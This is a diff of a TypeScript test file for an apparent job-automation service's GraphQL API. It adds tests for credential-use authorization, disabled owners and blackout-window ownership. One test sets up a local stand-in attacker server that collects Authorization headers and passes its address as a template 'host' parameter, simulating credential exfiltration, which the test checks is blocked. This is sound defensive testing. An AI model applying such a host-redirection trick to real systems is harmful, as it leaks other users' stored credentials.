@@ -109,6 +109,39 @@ describe('using a credential someone else owns', () => {
     )
   })
 
+  it("whoever triggers a template cannot aim its owner's credential at another host through a parameter", async () => {
+    const cred = await credential('alice-param-api', 'alice-Param-pw-9', alice)
+    const stolen: string[] = []
+    const attacker = createServer((req, res) => {
+      stolen.push(req.headers.authorization ?? '(none)')
+      res.writeHead(200).end('thanks')
+    })
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
+    try {
+      const evil = `127.0.0.1:${(attacker.address() as AddressInfo).port}`
+      const hostParam = [{ name: 'host', type: 'STRING', default: new URL(base).host }]
+      const config = { url: 'http://{{ host }}/collect', auth: { type: 'credential', credentialId: cred } }
+      // Refused when saved: the host of a URL that carries a stored credential must be written out…
+      const r = await t.gql(CREATE_TPL, { i: { name: 'alice-param', jobType: 'http', visibility: 'GLOBAL', parameters: hostParam, config } }, alice)
+      expect(r.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.config.url' })
+      // …placeholders after it are fine.
+      const ok = (await t.ok(CREATE_TPL, { i: { name: 'alice-path', jobType: 'http', visibility: 'GLOBAL', parameters: [{ name: 'p', type: 'STRING', default: 'collect' }], config: { ...config, url: `${base}/{{ p }}` } } }, alice)).createJobTemplate.id
+      const TRIGGER_WITH = `mutation($id: ID!, $p: JSON) { triggerJobRun(templateId: $id, parameters: $p) { id } }`
+      // (A path that looks like another authority stays a path on the written-out host.)
+      expect((await waitFor((await t.ok(TRIGGER_WITH, { id: ok, p: { p: `@${evil}/x` } }, bob)).triggerJobRun.id, ['SUCCEEDED', 'FAILED'])).status).toBe('SUCCEEDED')
+      // A template saved before this rule (written to the row directly) does not run for bob's host either.
+      const old = (await t.ok(CREATE_TPL, { i: { name: 'alice-old', jobType: 'http', visibility: 'GLOBAL', parameters: hostParam, config: { ...config, url: `${base}/collect` } } }, alice)).createJobTemplate.id
+      await t.app.db.pool.query(`UPDATE job_template SET config = jsonb_set(config, '{url}', '"http://{{ host }}/collect"') WHERE name = 'alice-old'`)
+      const run = await waitFor((await t.ok(TRIGGER_WITH, { id: old, p: { host: evil } }, bob)).triggerJobRun.id, ['SUCCEEDED', 'FAILED'])
+      expect(run.status).toBe('FAILED')
+      expect(run.error).toMatch(/url: with a stored credential/)
+      expect(stolen).toEqual([])
+    } finally {
+      attacker.closeAllConnections()
+      await new Promise((resolve) => attacker.close(resolve))
+    }
+  })
+
   it('a grant revoked after the template was saved makes its next run fail before the secret is opened or sent', async () => {
     const secret = 'alice-Revoked-pw-2'
     const cred = await credential('alice-api', secret, alice)
@@ -123,6 +156,25 @@ describe('using a credential someone else owns', () => {
     expect(received.length).toBe(before)
     expect(receivedText()).not.toContain(secret)
     expect((await logLines(run.id)).map((l) => l.text).join('\n')).not.toContain(secret)
+  })
+})
+
+describe('a disabled owner', () => {
+  it("may use none, not even their own credential: their template's next run fails before the secret is opened", async () => {
+    const carol = await t.userToken('OPERATOR', 'carol')
+    const secret = 'carol-Own-pw-6'
+    const cred = await credential('carol-own', secret, carol)
+    const tpl = (await t.ok(CREATE_TPL, { i: httpTemplate('carol-api', cred) }, carol)).createJobTemplate.id
+    const carolId = (await t.ok(`{ me { id } }`, {}, carol)).me.id
+    await t.ok(`mutation($id: ID!) { updateUser(id: $id, input: { disabled: true }) { id } }`, { id: carolId })
+
+    const before = received.length
+    // Anyone who sees the GLOBAL template may trigger it; it acts for its (now disabled) owner.
+    const run = await waitFor((await t.ok(TRIGGER, { id: tpl })).triggerJobRun.id, ['SUCCEEDED', 'FAILED'])
+    expect(run.status).toBe('FAILED')
+    expect(run.error).toMatch(/the template's owner "carol" may no longer use credential "carol-own"/)
+    expect(received.length).toBe(before)
+    expect(receivedText()).not.toContain(secret)
   })
 })
 
@@ -190,7 +242,7 @@ describe('use grants', () => {
   })
 })
 
-describe("others' targets, inventories, credentials and runs", () => {
+describe("others' targets, inventories, credentials, blackout windows and runs", () => {
   const CREATE_TARGET = `mutation($i: CreateTargetInput!) { createTarget(input: $i) { id owner { username } } }`
   const UPDATE_TARGET = `mutation($id: ID!, $i: UpdateTargetInput!) { updateTarget(id: $id, input: $i) { id host credential { name } } }`
 
@@ -232,6 +284,31 @@ describe("others' targets, inventories, credentials and runs", () => {
     expectForbidden(await t.gql(`mutation($id: ID!) { updateCredential(id: $id, input: { password: "replaced" }) { id } }`, { id: cred }, bob), undefined, /only the owner or an admin may change this credential/)
     expectForbidden(await t.gql(`mutation($id: ID!) { deleteCredential(id: $id) }`, { id: cred }, bob))
     expect((await t.ok(`mutation($id: ID!) { updateCredential(id: $id, input: { description: "ok" }) { description } }`, { id: cred }, alice)).updateCredential.description).toBe('ok')
+  })
+
+  it('another operator cannot change or delete a blackout window they do not own, but may link it to their schedules', async () => {
+    const BW = `mutation($n: String!) { createBlackoutWindow(input: { name: $n, kind: RECURRING, startTime: "01:00", durationMinutes: 30 }) { id owner { username } } }`
+    const UPDATE_BW = `mutation($id: ID!, $i: BlackoutWindowInput!) { updateBlackoutWindow(id: $id, input: $i) { id durationMinutes } }`
+    const bw = (await t.ok(BW, { n: 'alice-freeze' }, alice)).createBlackoutWindow
+    expect(bw.owner).toEqual({ username: 'alice' })
+    // Widening it to the whole week would silence every schedule linked to it, others' included.
+    expectForbidden(await t.gql(UPDATE_BW, { id: bw.id, i: { durationMinutes: 7 * 24 * 60 } }, bob), undefined, /only the owner or an admin may change this blackout window/)
+    expectForbidden(await t.gql(`mutation($id: ID!) { deleteBlackoutWindow(id: $id) }`, { id: bw.id }, bob))
+    // Linking it to one's own schedule is using it, not changing it.
+    const tpl = (await t.ok(CREATE_TPL, { i: { name: 'bob-nightly', jobType: 'noop', config: {}, visibility: 'GLOBAL' } }, bob)).createJobTemplate.id
+    const sched = await t.ok(
+      `mutation($i: CreateJobScheduleInput!) { createJobSchedule(input: $i) { blackouts { name } } }`,
+      { i: { name: 'bob-nightly', templateId: tpl, kind: 'CRON', cronExpression: '0 1 * * *', blackoutIds: [bw.id] } },
+      bob,
+    )
+    expect(sched.createJobSchedule.blackouts).toEqual([{ name: 'alice-freeze' }])
+    expect((await t.ok(UPDATE_BW, { id: bw.id, i: { durationMinutes: 45 } })).updateBlackoutWindow.durationMinutes).toBe(45) // admins may
+    expect((await t.ok(UPDATE_BW, { id: bw.id, i: { durationMinutes: 60 } }, alice)).updateBlackoutWindow.durationMinutes).toBe(60)
+    // Windows from before owners existed are admin-managed.
+    const old = (await t.ok(BW, { n: 'legacy-freeze' })).createBlackoutWindow.id
+    await t.app.db.pool.query(`UPDATE blackout_window SET owner_id = NULL WHERE name = 'legacy-freeze'`)
+    expectForbidden(await t.gql(UPDATE_BW, { id: old, i: { durationMinutes: 5 } }, alice))
+    expect((await t.ok(`mutation($id: ID!) { deleteBlackoutWindow(id: $id) }`, { id: bw.id }, alice)).deleteBlackoutWindow).toBe(bw.id)
   })
 
   it('runs are cancelled and retried only by who triggered them, the template owner or an admin', async () => {
